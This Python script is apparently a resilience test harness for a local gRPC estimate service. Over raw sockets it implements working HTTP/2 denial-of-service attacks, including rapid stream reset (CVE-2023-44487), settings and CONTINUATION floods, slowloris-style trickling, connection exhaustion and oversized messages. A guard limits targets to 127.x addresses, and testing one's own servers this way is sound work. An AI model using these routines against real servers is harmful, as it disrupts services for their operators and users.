"""What clients do that mean harm, or do not know better; over bare sockets.

  attacks.py NAME HOST:PORT SECONDS REQUEST

does one of ATTACKS for that long; REQUEST is the file of a request of
BatchEstimateCosts. Only for servers on this machine.
"""

import os
import pathlib
import random
import socket
import ssl
import struct
import sys
import time

import http2_call as http2

ESTIMATE = "/ratecard.v1.EstimateService/EstimateCost"
BATCH = "/ratecard.v1.EstimateService/BatchEstimateCosts"
STREAM = "/ratecard.v1.EstimateService/StreamEstimateCosts"


class Target:
    """The server, and until when to bother it."""

    def __init__(self, address, seconds, request):
        self.host, port = address.rsplit(":", 1)
        if not self.host.startswith("127."):
            sys.exit("attacks.py: only for servers on this machine")
        self._address = (self.host, int(port))
        self._end = time.monotonic() + seconds
        self.request = request

    def going(self):
        return time.monotonic() < self._end

    def connect(self):
        """A bare connection, of which nothing waits longer than 0.2 s."""
        connection = socket.create_connection(self._address, timeout=5)
        connection.settimeout(0.2)
        return connection

    def hello(self, settings=b""):
        """One that has said that it is of HTTP/2."""
        connection = self.connect()
        send(
            connection,
            http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0, settings),
        )
        return connection

    def headers(self, stream, path=ESTIMATE, flags=http2.END_HEADERS):
        block = http2.call_headers(path, self.host)
        return http2.frame(http2.HEADERS, flags, stream, block)


def send(connection, data):
    """Whether all of it went out."""
    try:
        connection.sendall(data)
        return True
    except OSError:
        return False


def drop_input(connection):
    """Reads what there is. False once the server has closed."""
    try:
        return bool(connection.recv(1 << 20, socket.MSG_DONTWAIT))
    except BlockingIOError:
        return True
    except OSError:
        return False


def flood(target, of_round, read=True):
    """Sends of_round(0), of_round(1) … as fast as the server takes it, over a
    new connection whenever one is closed or stuck."""
    while target.going():
        connection = target.hello()
        number = 0
        while target.going() and send(connection, of_round(number)):
            number += 1
            if read and not drop_input(connection):
                break
        connection.close()


def reset_streams(target):
    """Opens streams and resets them, CVE-2023-44487."""

    def of_round(number):
        out = []
        for stream in range(number * 200 + 1, number * 200 + 201, 2):
            out.append(target.headers(stream))
            out.append(
                http2.frame(http2.RST_STREAM, 0, stream, struct.pack(">I", 8))
            )
        return b"".join(out)

    flood(target, of_round)


def reset_calls(target):
    """The same with whole requests."""
    request = http2.message(b"")

    def of_round(number):
        out = []
        for stream in range(number * 200 + 1, number * 200 + 201, 2):
            out.append(target.headers(stream))
            out.append(
                http2.frame(http2.DATA, http2.END_STREAM, stream, request)
            )
            out.append(
                http2.frame(http2.RST_STREAM, 0, stream, struct.pack(">I", 8))
            )
        return b"".join(out)

    flood(target, of_round)


def pings(target):
    """Pings whose answers are read."""
    ping = http2.frame(http2.PING, 0, 0, bytes(8)) * 1000
    flood(target, lambda number: ping)


def settings(target):
    """Settings whose acknowledgements are not read, CVE-2019-9515."""
    one = struct.pack(">HI", http2.INITIAL_WINDOW_SIZE, 65535)
    frames = http2.frame(http2.SETTINGS, 0, 0, one) * 1000
    flood(target, lambda number: frames, read=False)


def endless_headers(target):
    """Headers that go on and on, CVE-2024-27316."""
    more = http2.header(b"x" * 60, b"y" * 60) * 100

    def of_round(number):
        if number == 0:
            return target.headers(1, flags=0)
        return http2.frame(http2.CONTINUATION, 0, 1, more) * 10

    flood(target, of_round)


def giant_headers(target):
    """Calls with 100 times the headers that may be."""
    more = http2.header(b"x" * 60, b"y" * 60) * 100

    def of_round(number):
        stream = 2 * number + 1
        return b"".join(
            [
                target.headers(stream, flags=http2.END_STREAM),
                http2.frame(http2.CONTINUATION, 0, stream, more) * 99,
                http2.frame(
                    http2.CONTINUATION, http2.END_HEADERS, stream, more
                ),
            ]
        )

    flood(target, of_round)


def garbage(target):
    """Bytes of anything but HTTP/2."""
    hello = ssl.MemoryBIO()
    tls = ssl.create_default_context().wrap_bio(
        ssl.MemoryBIO(), hello, server_hostname="x"
    )
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    noise = random.Random(1)
    samples = [
        hello.read(),
        b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
        b"\0" * 100_000,
        http2.PREFACE + noise.randbytes(100_000),
        http2.PREFACE[:10],
    ]
    while target.going():
        for sample in samples + [noise.randbytes(10_000)]:
            connection = target.connect()
            send(connection, sample)
            drop_input(connection)
            connection.close()


def connections(target):
    """More connections than may be, that only say hello."""
    held = []
    while target.going():
        try:
            held.append(target.hello())
        except OSError:
            time.sleep(0.01)
        if len(held) > 1500:
            time.sleep(0.05)


def half_open(target):
    """Connections that never say what they want."""
    held = []
    while target.going() and len(held) < 150:
        connection = target.connect()
        send(connection, http2.PREFACE[: len(held) % 20])
        held.append(connection)
    while target.going():
        time.sleep(0.05)


def idle_streams(target):
    """Calls without end, 20 times as many as a connection may have. The
    server's settings, which say so, are never acknowledged: then gRPC does not
    hold to them either."""
    held = []
    while target.going():
        if len(held) < 10:
            connection = target.hello()
            for number in range(20):
                first = 200 * number + 1
                path = (ESTIMATE, STREAM)[number % 2]
                send(
                    connection,
                    b"".join(
                        target.headers(stream, path)
                        for stream in range(first, first + 200, 2)
                    ),
                )
            held.append(connection)
        else:
            time.sleep(0.05)


def slow_readers(target):
    """Large answers that are never read."""
    no_window = struct.pack(">HI", http2.INITIAL_WINDOW_SIZE, 0)
    held = []
    while target.going():
        if len(held) >= 100:
            time.sleep(0.05)
            continue
        connection = target.hello(no_window)
        for stream in range(1, 41, 2):
            data = http2.message(target.request)
            out = [target.headers(stream, BATCH)]
            for start in range(0, len(data), 16384):
                out.append(
                    http2.frame(
                        http2.DATA, 0, stream, data[start : start + 16384]
                    )
                )
            out.append(http2.frame(http2.DATA, http2.END_STREAM, stream))
            if not send(connection, b"".join(out)):
                break
        held.append(connection)


def trickle(target):
    """Calls that come one byte at a time."""
    held = [[target.hello(), 0] for _ in range(100)]
    data = target.headers(1) + http2.frame(
        http2.DATA, http2.END_STREAM, 1, http2.message(bytes(10_000))
    )
    while target.going():
        for pair in held:
            connection, sent = pair
            send(connection, data[sent : sent + 1])
            pair[1] += 1


def huge_messages(target):
    """Messages that say that they have 4 GB, and some that nearly have the
    4 MB that a request may, and never come to an end."""
    held = []
    piece = bytes(16384)
    while target.going():
        connection = target.hello()
        for stream in range(1, 101, 2):
            length = (4 << 20) - 100 if stream % 4 == 1 else 0xFFFFFFFF
            start = b"\0" + struct.pack(">I", length)
            if not send(
                connection,
                target.headers(stream)
                + http2.frame(http2.DATA, 0, stream, start)
                + http2.frame(http2.DATA, 0, stream, piece) * 3,
            ):
                break
        held.append(connection)
        if len(held) > 150:
            held.pop(0).close()


ATTACKS = {
    attack.__name__: attack
    for attack in (
        reset_streams,
        reset_calls,
        pings,
        settings,
        endless_headers,
        giant_headers,
        garbage,
        connections,
        half_open,
        idle_streams,
        slow_readers,
        trickle,
        huge_messages,
    )
}


def main():
    name, address, seconds, request = sys.argv[1:]
    # The machine has to have time for those who are attacked.
    os.nice(5)
    ATTACKS[name](
        Target(address, float(seconds), pathlib.Path(request).read_bytes())
    )


if __name__ == "__main__":
    main()
